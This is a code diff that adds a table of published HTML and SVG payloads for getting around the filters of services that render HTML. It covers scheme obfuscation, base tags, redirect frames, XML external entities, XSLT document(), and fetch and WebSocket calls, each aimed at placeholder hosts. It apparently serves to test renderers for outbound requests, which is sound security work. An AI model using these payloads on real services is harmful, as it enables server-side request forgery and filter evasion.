@@ -112,6 +112,36 @@ SCRIPTS = {
     }.items()
 }
 
+PUBLISHED = {
+    "scheme in capitals": "<img src='HtTp://HOSTPORT/PORT'>",
+    "scheme with a tab and a line break": "<img src='ht\ttp\n://HOSTPORT/PORT'>",
+    "no scheme": "<img src='//HOSTPORT/PORT'>",
+    "backslashes": r"<img src='\\HOSTPORT\PORT'>",
+    "slash and backslash": r"<img src='/\HOSTPORT/PORT'>",
+    "scheme and one backslash": r"<img src='https:\HOSTPORT/PORT'>",
+    "base": "<iframe srcdoc=\"<base href='http://HOSTPORT/'><img src='PORT'>\"></iframe>",
+    "Refresh header": "<iframe src='/redirect/refresh?to=QUOTED'></iframe>",
+    "report of a policy": "<iframe src='/redirect/policy?to=QUOTED'></iframe>",
+    "ping": "<a id=pPORT ping='URL' href='#pPORT'>p</a><script>pPORT.click()</script>",
+    "svg script": "<svg><script href='URL'></script></svg>",
+    "svg use": "<svg><use href='URL#x'/></svg>",
+    "svg foreignObject": "<svg><foreignObject width=9 height=9><img src='URL'></foreignObject></svg>",
+    "svg in a frame": "<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/>"
+    '</svg>"></iframe>',
+    "svg in an image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/>"
+    '</svg>">',
+    "xml style sheet": "<iframe src=\"data:text/xml,<?xml-stylesheet type='text/css' href='URL'?><a/>\"></iframe>",
+    "xslt style sheet": "<iframe src=\"data:text/xml,<?xml-stylesheet type='text/xsl' href='URL'?><a/>\"></iframe>",
+    "xml entity": "<iframe src=\"data:text/xml,<!DOCTYPE a [<!ENTITY e SYSTEM 'URL'>]><a>%26e;</a>\"></iframe>",
+    "xslt document()": "<script>try { const read = text => new DOMParser().parseFromString(text, 'text/xml');"
+    "const sheet = new XSLTProcessor(); sheet.importStylesheet(read(`<x:stylesheet version='1.0'"
+    " xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:template match='/'><x:copy-of select=\"document('URL')\"/>"
+    "</x:template></x:stylesheet>`)); sheet.transformToDocument(read('<a/>')) } catch { }</script>",
+    "frame that fetches": "<iframe src=\"data:text/html,<script>fetch('URL', {mode: 'no-cors'})</script>\"></iframe>",
+    "frame with a WebSocket": "<iframe srcdoc=\"<script>new WebSocket('WS')</script>\"></iframe>",
+}
+"""Published ways around the filters of services that print HTML, beside those of the other tables."""
+
 DATAGRAMS = {
     name: f"<script>try {{ {script} }} catch {{ }}</script>"
     for name, script in {
